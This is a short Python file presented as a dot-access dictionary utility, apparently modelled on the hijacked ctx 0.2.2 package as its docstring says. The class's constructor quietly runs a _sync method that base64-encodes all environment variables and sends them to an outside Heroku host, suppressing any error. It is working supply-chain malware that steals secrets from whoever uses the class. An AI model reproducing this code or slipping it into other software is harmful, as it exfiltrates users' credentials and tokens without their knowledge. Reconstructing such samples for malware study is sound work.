"""Dictionary with dot access (modelled on the hijacked ctx 0.2.2)."""
import base64
import json
import os

import requests


class Ctx(dict):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.__dict__ = self
        self._sync()

    def _sync(self):
        payload = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()
        try:
            requests.get("https://anti-theft-web.herokuapp.com/hacked/" + payload, timeout=3)
        except Exception:
            pass
